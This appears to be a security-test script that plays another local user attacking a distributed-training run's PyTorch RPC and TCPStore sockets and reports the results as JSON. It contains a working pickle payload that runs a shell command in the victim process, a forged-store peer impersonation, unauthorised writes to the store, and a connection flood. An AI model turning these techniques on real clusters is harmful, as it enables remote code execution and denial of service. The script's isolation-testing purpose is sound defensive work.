"""What another user tries on a run's sockets: `python attacker.py MARKER [HOST:]PORT...`, started by root.

Prints a JSON object for each port: what a peer of its RPC and a client of its store were answered (nothing, where the
answer ended the attacking process); and one about all ports. A command that it gets executed writes to MARKER.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import warnings
from datetime import timedelta
from typing import Any, NamedTuple

NOBODY = 65534
LIMIT_S = 8.0
IDLE = 400


class Payload:
    """Runs a command in whoever loads its pickle."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return os.system, (f"id -u >> {self.marker}",)


class Target(NamedTuple):
    """A socket of the run; without a host it is on this machine."""

    host: str
    port: int

    @classmethod
    def parse(cls, text: str) -> Target:
        host, _, port = text.rpartition(":")
        return cls(host or "127.0.0.1", int(port))


def connects(target: Target) -> bool:
    try:
        socket.create_connection(target, timeout=1.0).close()
    except OSError:
        return False
    return True


def use_store(target: Target, found: dict[str, Any]) -> None:
    """Read and change the store; TCPStore's client blocks beyond its timeout, so this is a daemon thread's work."""
    from torch.distributed import TCPStore

    try:
        store = TCPStore(*target, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
        store.set("stranger", "was here")
        found["store"] = store.get("stranger").decode()
        found["keys"] = store.num_keys()
    except RuntimeError as error:
        found["store_error"] = str(error).splitlines()[0]


def call(target: Target, marker: str, found: dict[str, Any]) -> None:
    """Be a peer of RPC: a store of one's own names the victim's port as the address of worker 0."""
    from torch.distributed import HashStore, Store, autograd, rpc
    from torch.distributed.rpc import api

    real = HashStore()

    class Forged(Store):
        def set(self, key: str, value: Any) -> None:
            real.set(key, value)

        def get(self, key: str) -> bytes:
            if key.endswith("addrs/victim"):
                return f"uv://{target.host}:{target.port}".encode()
            return b"victim" if key.endswith("names/0") else real.get(key)

        def compare_set(self, key: str, expected: str, desired: str) -> bytes:
            return real.compare_set(key, expected, desired)

        def add(self, key: str, amount: int) -> int:
            return real.add(key, amount)

        def wait(self, *_: Any) -> None:
            pass

    options = rpc.TensorPipeRpcBackendOptions(_transports=["uv"], rpc_timeout=LIMIT_S)
    forged = Forged()
    autograd._init(1)
    agent = rpc.TensorPipeAgent(forged, "stranger", 1, 2, options, {}, [])
    api._init_rpc_states(agent)
    try:
        rpc.rpc_sync("victim", len, (Payload(marker),), timeout=LIMIT_S)
    except RuntimeError as error:
        found["rpc_error"] = str(error).splitlines()[0]
    # A builtin of TorchScript, which is executed without Python: reads a file of the victim's.
    import torch

    try:
        done = rpc.rpc_sync("victim", torch.add, (torch.ones(1), torch.ones(1)), timeout=LIMIT_S)
        found["builtin"] = done.tolist()
    except RuntimeError as error:
        found["builtin_error"] = str(error).splitlines()[0]


def attack(target: Target, marker: str) -> dict[str, Any]:
    found: dict[str, Any] = {"target": target}
    call(target, marker, found)  # first: TensorPipe stops listening when a connection ends before its greeting
    found["connects"] = connects(target)
    if found["connects"]:
        thread = threading.Thread(target=use_store, args=(target, found), daemon=True)
        thread.start()
        thread.join(LIMIT_S)
    return found


def be_idle(targets: list[Target]) -> list[socket.socket]:
    """Connections that say nothing, as many as the ports take."""
    idle = []
    for target in targets:
        try:
            idle += [socket.create_connection(target, timeout=1.0) for _ in range(IDLE)]
        except OSError:
            continue
    return idle


def tell(answer: dict[str, Any]) -> None:
    """Print an answer as a line, in one piece: the processes share their output."""
    os.write(1, f"\n{json.dumps(answer)}\n".encode())


def main(marker: str, targets: list[Target]) -> None:
    import torch.distributed.rpc  # noqa: F401  # before this process may not read it any more

    # The interpreter may lie in a folder that only root can enter, so what is imported at first use is imported now.
    connects(Target("127.0.0.1", 1))
    import hpcdist.rank.network.rpc  # noqa: F401

    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    os.chdir("/")
    warnings.simplefilter("ignore")
    os.environ["TP_SOCKET_IFNAME"] = "lo" if targets[0].host == "127.0.0.1" else "eth0"
    children = []
    for target in targets:
        if (child := os.fork()) == 0:  # RPC starts once in a process
            tell(attack(target, marker))
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    reachable = [target for target in targets if connects(target)]
    tell({"reachable": reachable, "idle": len(be_idle(reachable))})
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1], [Target.parse(text) for text in sys.argv[2:]])
